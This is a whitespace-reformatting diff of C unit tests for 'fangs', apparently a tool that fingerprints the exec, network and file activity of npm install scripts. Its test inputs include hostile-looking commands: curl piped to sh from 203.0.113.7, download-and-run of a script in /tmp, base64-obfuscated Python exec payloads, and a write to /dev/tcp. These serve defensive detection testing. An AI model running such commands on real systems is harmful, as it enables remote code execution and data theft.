@@ -67,8 +67,8 @@ START_TEST(execs_plain)
 		  FANGS_FP_EXEC, FANGS_ACTOR_SCRIPT, "/usr/bin/node");
 	expect_fp(t_exec(&evs, "foo", "/usr/bin/git", "git", "clone", "https://git.example/x.git", NULL), NULL,
 		  FANGS_FP_EXEC, FANGS_ACTOR_SCRIPT, "/usr/bin/git");
-	expect_fp(t_exec(&evs, "foo", "/tmp/node-gyp-tmp-Q1w2E3/configure", "./configure", NULL), NULL,
-		  FANGS_FP_EXEC, FANGS_ACTOR_SCRIPT, "/tmp/<tmp>/configure");
+	expect_fp(t_exec(&evs, "foo", "/tmp/node-gyp-tmp-Q1w2E3/configure", "./configure", NULL), NULL, FANGS_FP_EXEC,
+		  FANGS_ACTOR_SCRIPT, "/tmp/<tmp>/configure");
 	expect_fp(t_exec(&evs, NULL, "/usr/bin/npm", "npm", "install", NULL), NULL, FANGS_FP_EXEC, FANGS_ACTOR_NPM,
 		  "/usr/bin/npm");
 }
@@ -78,8 +78,8 @@ START_TEST(execs_inline_code)
 {
 	expect_fp(t_exec(&evs, "foo", "/bin/sh", "sh", "-c", "node install.js", NULL), NULL, FANGS_FP_EXEC,
 		  FANGS_ACTOR_SCRIPT, "/bin/sh -c node install.js");
-	expect_fp(t_exec(&evs, "foo", "/bin/sh", "sh", "-c", "  curl -s\thttp://203.0.113.7/x.sh   |sh\n", NULL),
-		  NULL, FANGS_FP_EXEC, FANGS_ACTOR_SCRIPT, "/bin/sh -c curl -s http://203.0.113.7/x.sh |sh");
+	expect_fp(t_exec(&evs, "foo", "/bin/sh", "sh", "-c", "  curl -s\thttp://203.0.113.7/x.sh   |sh\n", NULL), NULL,
+		  FANGS_FP_EXEC, FANGS_ACTOR_SCRIPT, "/bin/sh -c curl -s http://203.0.113.7/x.sh |sh");
 	expect_fp(t_exec(&evs, "foo", "/bin/sh", "sh", "-c",
 			 "cd /tmp/npm-1234-abcdef && ./build.sh --out=/tmp/tmp-999xyz/out-1714558953123.json "
 			 "2>/proc/31337/fd/2",
@@ -171,7 +171,8 @@ START_TEST(exec_inline_code_digest)
 			    "import base64;exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))", NULL),
 		     NULL);
 	b = fp_value(t_exec(&evs, "foo", "/usr/bin/python3", "python3", "-c",
-			    "import base64;exec(base64.b64decode('aW1wb3J0IHNvY2tldDtzPXNvY2tldC5zb2NrZXQoKQ=='))", NULL),
+			    "import base64;exec(base64.b64decode('aW1wb3J0IHNvY2tldDtzPXNvY2tldC5zb2NrZXQoKQ=='))",
+			    NULL),
 		     NULL);
 	ck_assert_str_ne(a, b);
 	free(a);
@@ -284,7 +285,8 @@ END_TEST
 START_TEST(exec_url_keeps_home)
 {
 	char *a = fp_value(t_exec(&evs, "foo", "/bin/sh", "sh", "-c",
-				  "curl -s https://203.0.113.7/home/alice/x.sh -o/tmp/x.sh && PATH=/usr/bin:/tmp/tmp-4242xyz sh /tmp/x.sh",
+				  "curl -s https://203.0.113.7/home/alice/x.sh -o/tmp/x.sh && "
+				  "PATH=/usr/bin:/tmp/tmp-4242xyz sh /tmp/x.sh",
 				  NULL),
 			   NULL);
 	ck_assert_str_eq(a, "/bin/sh -c curl -s https://203.0.113.7/home/alice/x.sh -o/tmp/x.sh && "
@@ -296,12 +298,12 @@ END_TEST
 START_TEST(network)
 {
 	fangs_event *ev;
-	expect_fp(t_connect(&evs, "foo", "203.0.113.7", 443, FANGS_PROTO_TCP), NULL, FANGS_FP_NET,
-		  FANGS_ACTOR_SCRIPT, "203.0.113.7:443/tcp");
+	expect_fp(t_connect(&evs, "foo", "203.0.113.7", 443, FANGS_PROTO_TCP), NULL, FANGS_FP_NET, FANGS_ACTOR_SCRIPT,
+		  "203.0.113.7:443/tcp");
 	expect_fp(t_connect(&evs, "foo", "::ffff:203.0.113.7", 443, FANGS_PROTO_TCP), NULL, FANGS_FP_NET,
 		  FANGS_ACTOR_SCRIPT, "203.0.113.7:443/tcp");
-	expect_fp(t_connect(&evs, NULL, "2001:0db8::0001", 53, FANGS_PROTO_UDP), NULL, FANGS_FP_NET,
-		  FANGS_ACTOR_NPM, "[2001:db8::1]:53/udp");
+	expect_fp(t_connect(&evs, NULL, "2001:0db8::0001", 53, FANGS_PROTO_UDP), NULL, FANGS_FP_NET, FANGS_ACTOR_NPM,
+		  "[2001:db8::1]:53/udp");
 	ev = t_connect(&evs, "foo", "/run/user/0/bus", 0, FANGS_PROTO_NONE);
 	ev->family = FANGS_FAMILY_UNIX;
 	expect_fp(ev, NULL, FANGS_FP_NET, FANGS_ACTOR_SCRIPT, "unix:/run/user/0/bus");
@@ -345,9 +347,10 @@ START_TEST(no_fingerprint)
 	ev.kind = FANGS_EV_FILE_OPEN; /* no path */
 	ck_assert_int_eq(fangs_differ_fingerprint(NULL, NULL, &ev, &fp), 0);
 	/* sinks and sources of nothing */
-	ck_assert_int_eq(fangs_differ_fingerprint(NULL, NULL, t_open(&evs, "foo", "/dev/null", FANGS_OPEN_WRITE), &fp), 0);
-	ck_assert_int_eq(fangs_differ_fingerprint(NULL, NULL, t_open(&evs, "foo", "/dev/urandom", FANGS_OPEN_READ), &fp),
+	ck_assert_int_eq(fangs_differ_fingerprint(NULL, NULL, t_open(&evs, "foo", "/dev/null", FANGS_OPEN_WRITE), &fp),
 			 0);
+	ck_assert_int_eq(
+		fangs_differ_fingerprint(NULL, NULL, t_open(&evs, "foo", "/dev/urandom", FANGS_OPEN_READ), &fp), 0);
 	/* a device that does lead somewhere still counts */
 	expect_fp(t_open(&evs, "foo", "/dev/tcp/203.0.113.7/80", FANGS_OPEN_WRITE), NULL, FANGS_FP_FS_WRITE,
 		  FANGS_ACTOR_SCRIPT, "/dev/tcp/203.0.113.7/80");
